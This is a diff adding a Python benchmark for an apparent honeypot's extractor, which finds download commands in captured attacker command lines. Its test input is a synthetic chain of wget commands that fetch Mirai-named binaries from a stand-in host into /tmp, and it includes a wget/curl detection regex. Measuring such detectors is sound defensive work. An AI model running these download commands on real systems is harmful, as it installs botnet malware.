@@ -0,0 +1,71 @@
+#!/usr/bin/env python
+
+"""
+Benchmark of the fetch intent extractor (per command line overhead)
+
+Compares the former single regex with _fetches() on command lines found
+in captured/*/README.md, on a chain of 20 fetches and on stripping of the
+shell's error prefixes from a 1KB read. Reports the best of 5 runs.
+"""
+
+import glob
+import os
+import re
+import sys
+import time
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), os.pardir)
+sys.path.insert(0, ROOT)
+
+from hontel import _fetches
+
+SHELL = "/bin/bash"
+OLD_FETCH_REGEX = r"(?i)(wget|curl).+(http[^ >;\"']+)"
+OLD_ERROR_REGEX = r"%s: line \d+: " % SHELL
+SHELL_ERROR_REGEX = re.compile(r"%s: line \d+: " % re.escape(SHELL))
+CHAIN = ";".join("cd /tmp && wget http://192.0.2.1/bins/mirai.%d -O m%d" % (_, _) for _ in xrange(20))
+BUFFER = ("%s: line 1: foobar: command not found\n" % SHELL + "A" * 64 + "\n") * 10
+RUNS = 5
+
+def _lines():
+    retval = []
+    for filename in sorted(glob.glob(os.path.join(ROOT, "captured", "*", "README.md"))):
+        inside = False
+        for line in open(filename, "rb"):
+            if line.startswith("```"):
+                inside = not inside
+            elif inside and line.strip():
+                retval.append(line.strip())
+    return retval
+
+def _best(function, count):
+    best = None
+    for _ in xrange(RUNS):
+        start = time.time()
+        for _ in xrange(count):
+            function()
+        elapsed = time.time() - start
+
+        best = min(best, elapsed) if best is not None else elapsed
+
+    return 1e6 * best / count
+
+def main():
+    lines = _lines()
+
+    def old():
+        return [re.search(OLD_FETCH_REGEX, _) for _ in lines]
+
+    def new():
+        return [_fetches(_) for _ in lines]
+
+    found = (sum(1 for _ in old() if _), sum(len(_) for _ in new()))
+    print "%d command lines, old regex %.1f us, new extractor %.1f us per line (%d vs %d fetches)" % (len(lines), _best(old, 1000) / len(lines), _best(new, 1000) / len(lines), found[0], found[1])
+
+    found = (1 if re.search(OLD_FETCH_REGEX, CHAIN) else 0, len(_fetches(CHAIN)))
+    print "20-fetch chain, old regex %.1f us, new extractor %.1f us (%d vs %d fetches)" % (_best(lambda: re.search(OLD_FETCH_REGEX, CHAIN), 10000), _best(lambda: _fetches(CHAIN), 1000), found[0], found[1])
+
+    print "%d bytes of shell output, old prefix stripping %.1f us, new %.1f us (best of %d)" % (len(BUFFER), _best(lambda: re.sub(OLD_ERROR_REGEX, "", BUFFER), 10000), _best(lambda: SHELL_ERROR_REGEX.sub("", BUFFER), 10000), RUNS)
+
+if __name__ == "__main__":
+    main()